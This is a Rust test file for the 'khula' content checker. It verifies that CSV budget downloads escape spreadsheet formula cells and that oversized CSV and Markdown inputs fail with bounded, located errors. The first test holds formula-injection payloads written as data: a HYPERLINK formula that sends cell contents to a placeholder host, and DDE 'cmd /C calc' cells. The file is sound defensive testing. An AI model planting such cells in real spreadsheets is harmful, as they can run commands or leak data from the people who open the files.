//! Hostile content: formula cells in the downloads, and files past the limits of the content
//! format (docs/content-format.md, "Limits"). Each case writes its council into a temporary
//! folder, copied from `tests/fixtures/invalid/valid/base-nagar`, rather than committing
//! files of megabytes. Nothing here measures time: the checks are on what is printed.

mod common;

use common::{Run, build, copy_tree, fixture, khula, read};
use std::path::{Path, PathBuf};

/// A temporary content folder with one council, `base-nagar`, and its folder.
fn council() -> (tempfile::TempDir, PathBuf, PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let content = tmp.path().join("content");
    let dir = content.join("base-nagar");
    copy_tree(&fixture("invalid/valid/base-nagar"), &dir);
    (tmp, content, dir)
}

fn check(tmp: &tempfile::TempDir, content: &Path) -> Run {
    khula(
        tmp.path(),
        &["check", "--content", content.to_str().unwrap()],
    )
}

/// Headlines of the errors printed by a run.
fn errors(run: &Run) -> Vec<&str> {
    run.stderr
        .lines()
        .filter(|l| l.contains("base-nagar/") && !l.contains(": warning: "))
        .collect()
}

#[test]
fn formula_cells_are_neutralised_in_csv_downloads_and_numbers_left_alone() {
    let (_tmp, content, dir) = council();
    std::fs::write(
        dir.join("budget.csv"),
        "fiscal_year,sector,allocated,programme\n\
         2080/81,\"=HYPERLINK(\"\"https://x?d=\"\"&B2,\"\"a\"\")\",-5,+cmd|' /C calc'!A0\n\
         2080/81,@SUM(1),\"-1,200.50\",-2+3+cmd|' /C calc'!A0\n\
         2080/81,Health,+3,Tab\n",
    )
    .unwrap();
    let (_built, out) = build(&content);
    let csv = read(&out.join("base-nagar/data/budget.csv"));
    for cell in [
        "\"'=HYPERLINK(\"\"https://x?d=\"\"&B2,\"\"a\"\")\"",
        "'+cmd|' /C calc'!A0",
        "'@SUM(1)",
        "'-2+3+cmd|' /C calc'!A0",
    ] {
        assert!(csv.contains(cell), "{cell} not in\n{csv}");
    }
    for line in csv.lines().skip(1) {
        for cell in line.split(',') {
            let cell = cell.trim_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '@', '\t']),
                "{cell:?} in\n{csv}"
            );
        }
    }
    // Negative and signed amounts stay numbers.
    assert!(csv.contains(",-5,"), "{csv}");
    assert!(csv.contains(",-1200.5,"), "{csv}");
    assert!(csv.contains(",3,"), "{csv}");
    // The JSON download is data: the cells as written.
    let json = read(&out.join("base-nagar/data/budget.json"));
    assert!(json.contains("\"@SUM(1)\""), "{json}");
}

#[test]
fn twenty_thousand_unknown_columns_fail_with_one_located_error() {
    let (tmp, content, dir) = council();
    let names: Vec<String> = (0..20_000).map(|i| format!("extra{i}")).collect();
    std::fs::write(
        dir.join("budget.csv"),
        format!(
            "fiscal_year,sector,allocated,{}\n2080/81,Health,5{}\n",
            names.join(","),
            ",".repeat(20_000)
        ),
    )
    .unwrap();
    let run = check(&tmp, &content);
    assert_eq!(run.code, 1, "{}", &run.stderr[..run.stderr.len().min(2000)]);
    assert!(run.stderr.len() < 1_000_000, "{} bytes", run.stderr.len());
    let errors = errors(&run);
    assert_eq!(errors.len(), 1, "{errors:?}");
    let column = "fiscal_year,sector,allocated,".len() + names[..197].join(",").len() + 2;
    assert!(
        errors[0].contains(&format!("budget.csv:1:{column}: has 20,003 columns")),
        "{}",
        errors[0]
    );
    assert!(errors[0].contains("at most 200"), "{}", errors[0]);
}

#[test]
fn a_hundred_thousand_bad_rows_print_fifty_and_a_count() {
    let (tmp, content, dir) = council();
    let mut csv = String::from("fiscal_year,sector,allocated\n");
    for i in 0..100_000 {
        csv.push_str(&format!("2080/81,Health,abc{i}\n"));
    }
    std::fs::write(dir.join("budget.csv"), csv).unwrap();
    let run = check(&tmp, &content);
    assert_eq!(run.code, 1);
    assert!(run.stderr.len() < 1_000_000, "{} bytes", run.stderr.len());
    let errors = errors(&run);
    assert_eq!(errors.len(), 51, "{errors:?}");
    assert!(errors[0].contains("budget.csv:2:16: \"abc0\" is not an amount"));
    assert!(errors[49].contains("budget.csv:51:16: \"abc49\""));
    assert!(
        errors[50].contains("… and 99950 more problems like these in this file"),
        "{}",
        errors[50]
    );
    assert!(run.stderr.contains("100000 errors found"), "{}", run.stderr);
}

#[test]
fn markdown_past_one_megabyte_or_too_deeply_nested_is_refused_by_check() {
    let (tmp, content, dir) = council();
    let line = "A line of the page, long enough to fill a megabyte quickly.\n";
    let big = format!(
        "---\ntitle: Big\n---\n{}",
        line.repeat(1_000_000 / line.len() + 1)
    );
    std::fs::write(dir.join("pages/big.md"), big).unwrap();
    let deep = format!("---\ntitle: Deep\n---\n\nText\n{}\n", ">".repeat(100_000));
    std::fs::write(dir.join("pages/deep.md"), deep).unwrap();
    let run = check(&tmp, &content);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let errors = errors(&run);
    assert_eq!(errors.len(), 2, "{errors:?}");
    let row = (1_000_000 - 19) / line.len() + 4;
    let column = (1_000_000 - 19) % line.len() + 1;
    assert!(
        errors[0].contains(&format!("pages/big.md:{row}:{column}: is 1.0 MB;")),
        "{}",
        errors[0]
    );
    assert!(errors[0].contains("at most 1 MB"), "{}", errors[0]);
    assert!(
        errors[1].contains("pages/deep.md:6:33: opens more than 32 quotes or lists"),
        "{}",
        errors[1]
    );
}

#[test]
fn too_wide_a_cell_or_too_many_rows_is_refused_by_check() {
    let (tmp, content, dir) = council();
    let long = "x".repeat(10_001);
    std::fs::write(
        dir.join("budget.csv"),
        format!("fiscal_year,sector,allocated\n2080/81,Health,5\n2080/81,{long},5\n"),
    )
    .unwrap();
    let mut rates = String::from("tax,rate\n");
    for i in 0..100_001 {
        rates.push_str(&format!("Tax {i},1\n"));
    }
    std::fs::write(dir.join("tax-rates.csv"), rates).unwrap();
    let run = check(&tmp, &content);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let errors = errors(&run);
    assert_eq!(errors.len(), 2, "{errors:?}");
    assert!(
        errors[0].contains(
            "budget.csv:3:9: this cell has 10,001 characters; Khula reads at most 10,000"
        ),
        "{}",
        errors[0]
    );
    assert!(
        errors[1].contains("tax-rates.csv:100002:1: has more than 100,000 rows"),
        "{}",
        errors[1]
    );
}
